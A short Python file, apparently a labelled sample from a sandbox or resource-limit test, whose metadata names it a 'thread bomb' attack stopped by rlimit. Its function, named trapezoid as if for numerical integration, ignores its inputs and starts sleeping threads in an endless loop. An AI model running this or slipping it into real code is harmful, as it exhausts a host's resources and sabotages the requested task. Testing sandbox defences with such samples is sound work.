"""Starts threads until the process may have no more, and leaves them asleep."""
# /// attack
# threat = "thread bomb"
# stopped_by = "rlimit"
# base = "right"
# score = 7
# ///

import threading
import time


def trapezoid(f, a, b, n):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
